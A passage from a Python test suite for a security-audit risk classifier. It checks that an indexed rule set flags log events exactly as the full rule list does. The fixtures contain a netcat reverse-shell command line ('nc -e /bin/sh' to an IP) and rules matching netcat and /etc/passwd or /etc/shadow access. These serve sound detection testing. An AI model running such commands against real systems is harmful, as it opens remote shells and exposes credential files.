        spec = {"id": "r%d" % draw(st.integers(0, 9)),  # a later rule of an id replaces it
                "level": draw(st.sampled_from(["low", "medium", "high", "critical"])),
                "reason": "reason %d" % number, "match": _block(draw, 0)}
        if draw(st.integers(0, 3)) == 0:
            spec["unless"] = _block(draw, 1)
        specs.append(spec)
    return specs


events = st.fixed_dictionaries({
    "argv": st.lists(st.sampled_from(PROGRAMS + ["/usr/bin/python3", "./nc", "-e", "/etc/passwd",
                                                 "x", "aa"]), max_size=3),
    "exe": st.sampled_from([None, "/usr/bin/nc", "/tmp/python", "/bin/ls", "/usr/bin/sudo",
                            "/usr/sbin/usermod", "/usr/bin/python3.11", "/bin/bash"]),
    "paths": st.lists(st.sampled_from([{"path": "/etc/passwd"}, {"name": "x"}]), max_size=2),
    "user": st.sampled_from([None, "root", "www-data", "bob"]),
    "login_user": st.sampled_from([None, "alice", "bob"]),
    "operation": st.sampled_from([None, "write", "chmod"]),
    "success": st.sampled_from([None, True, False]),
    "cwd": st.sampled_from([None, "/root", "/tmp"]),
    "event_id": st.sampled_from([None, 4720, 4624]),
}, optional={"kind": st.sampled_from(KINDS),  # missing, or None keys: as a hostile sender
             "keys": st.one_of(st.none(), st.lists(st.sampled_from(KEYS), max_size=2))})


@settings(max_examples=1000, deadline=5000)
@given(rule_specs(), st.lists(events, min_size=1, max_size=5))
def test_the_index_judges_every_event_as_every_rule_would(specs, stream):
    rules = compile_risk_rules(specs)
    for event in stream + stream:  # the second time, judged as before when it may be kept
        assert classify(dict(event), rules) == classify(dict(event), list(rules))


def test_an_event_that_looks_the_same_to_the_rules_gets_the_same_judgement_and_no_other():
    rules = compile_risk_rules(SHIPPED_RISK_RULES)
    first = classify(iter_events(run("nc", "-e", "/bin/sh", "10.0.0.1")).__next__(), rules)
    again = iter_events(run("nc", "-e", "/bin/sh", "10.0.0.1", serial=99)).__next__()
    again.update(cwd="/elsewhere", tty="pts9", host="db01", pid=4242)  # read by no rule
    assert rules.judgements and classify(again, rules)["rules"] == first["rules"] != []
    again["reasons"].append("changed")  # each event has its own lists
    assert "changed" not in classify(dict(again), rules)["reasons"]
    for changed in ({"user": "www-data"}, {"login_user": None}, {"success": False},
                    {"argv": ["nc", "-l"]}, {"exe": "/usr/bin/ls"}, {"kind": "file"},
                    {"keys": ["exec", "x"]}, {"paths": [{"path": "/etc/shadow"}]},
                    {"operation": "write"}, {"success": 1}):
        event = dict(again, **changed)
        assert classify(dict(event), rules) == classify(dict(event), list(rules)), changed


def test_a_rule_that_asks_any_field_has_every_event_judged_in_full():
    rules = compile_risk_rules([{"id": "from-tmp", "level": "high", "reason": "in /tmp",
                                 "match": {"kind": ["exec"], "field": {"cwd": "^/tmp"}}}])
    assert rules.judgements is None
    event = {"kind": "exec", "argv": ["ls"], "keys": [], "paths": [], "cwd": "/tmp"}
    assert classify(dict(event), rules)["level"] == "high"
    assert classify(dict(event, cwd="/root"), rules)["level"] == "info"


def test_what_one_sender_can_make_the_judgements_hold_is_bounded():
    rules = compile_risk_rules(SHIPPED_RISK_RULES)
    for number in range(10000):
        classify({"kind": "exec", "argv": ["cmd%d" % number], "keys": ["exec"]}, rules)
    huge = {"kind": "exec", "argv": ["nc", "-e", "x" * 100000], "keys": ["exec"]}
    assert classify(dict(huge), rules)["level"] == classify(dict(huge), list(rules))["level"]
    assert 0 < len(rules.judgements) <= 4096
    assert all(sum(map(len, key[2])) < 5000 for key in rules.judgements)


def test_a_rule_with_alternatives_is_judged_when_any_of_them_is_met():
    # as the shipped rules about written files: a path, or a key the watch rule set
    rules = compile_risk_rules([
        {"id": "identity", "level": "medium", "reason": "identity", "match": {
            "kind": ["file"], "any": [{"path": "^/etc/passwd$"}, {"key": ["passwd"]}]}},
        {"id": "tool", "level": "high", "reason": "tool", "match": {
            "any": [{"command": "^nc "}, {"exe": "/ncat$"}, {"any": [{"key": ["nc"]}]}]}}])
    for event, fired in (
            ({"kind": "file", "paths": [{"path": "/etc/passwd"}], "keys": []}, ["identity"]),
            ({"kind": "file", "paths": [{"path": "/tmp/x"}], "keys": ["passwd"]}, ["identity"]),
            ({"kind": "file", "paths": [{"path": "/tmp/x"}], "keys": ["shadow"]}, []),
            ({"kind": "exec", "argv": ["nc", "-l"], "keys": []}, ["tool"]),
            ({"kind": "exec", "argv": ["ncat"], "exe": "/usr/bin/ncat", "keys": []}, ["tool"]),
            ({"kind": "exec", "argv": ["x"], "exe": "/bin/x", "keys": ["nc"]}, ["tool"]),
            ({"kind": "exec", "argv": ["x"], "exe": "/bin/x", "keys": []}, [])):
        assert classify(dict(event), rules)["rules"] == fired, event
        assert classify(dict(event), list(rules))["rules"] == fired, event


def test_patterns_that_refer_to_their_own_groups_are_not_combined_with_others():
    # "(.)\1" after "(pa)ss" in one expression would refer to the group of "(pa)"
    rules = compile_risk_rules([
        {"id": rule_id, "level": "high", "reason": rule_id, "match": {"command": pattern}}
        for rule_id, pattern in (("pass", "(pa)ss"), ("doubled", "(.)\\1"),
                                 ("named", "(?P<x>y)(?P=x)"), ("unset", "(a)?(?(1)a|q)"))])
    event = {"kind": "exec", "argv": ["aa", "yy"], "keys": [], "paths": []}
    assert classify(dict(event), rules)["rules"] == ["doubled", "named", "unset"]
    assert classify(dict(event), list(rules))["rules"] == ["doubled", "named", "unset"]


@settings(max_examples=500, deadline=5000)
@given(st.lists(st.text(st.sampled_from("ab*?[]!-\\.^$\n"), max_size=5), min_size=1,
                max_size=4),
       st.text(st.sampled_from("ab*?[]!-\\.^$\n"), max_size=5))
def test_program_and_user_patterns_match_as_fnmatch_does(patterns, value):
    rules = compile_risk_rules([{"id": "r", "level": "high", "reason": "r",
                                 "match": {"user": patterns}}])
    event = {"kind": "exec", "user": value, "argv": [], "keys": []}
    assert bool(classify(event, rules)["rules"]) == any(
        fnmatch.fnmatchcase(value, pattern) for pattern in patterns)


def test_an_ordinary_command_is_judged_by_few_of_the_shipped_rules():
    event = iter_events(run("ls", "-l", "/etc")).__next__()
    judged = RULES.candidates(event, event_facts(event))
    # the rules of a command's execution that no program, key, expression or path screens;
    # every other one names programs, keys or kinds ls has not, or asks of its command line,
    # program or paths what ls's are not
    assert 0 < len(judged) <= 3 < len(RULES) and all(rule in RULES for rule in judged)
    assert [rule.rule_id for rule in judged] == [
        rule.rule_id for rule in RULES if rule in judged]  # in the rules' order
    assert "sudo-used" not in [rule.rule_id for rule in judged]
    sudo = iter_events(run("sudo", "-i")).__next__()
    assert "sudo-used" in [rule.rule_id for rule in RULES.candidates(sudo, event_facts(sudo))]


def test_every_event_of_the_corpus_logs_is_judged_by_the_index_as_by_every_rule():
    _folder, paths = corpus_audit_logs()
    judged = fired = 0
    for path in paths:
        with open(path, "rb") as stream:
            for event in iter_events(iter_lines(stream)):
                indexed = classify(dict(event), RULES)
                assert indexed == classify(dict(event), list(RULES)), path
                judged += 1
                fired += bool(indexed["rules"])
    assert judged > 100 and fired > 0, (judged, fired)  # the logs were read
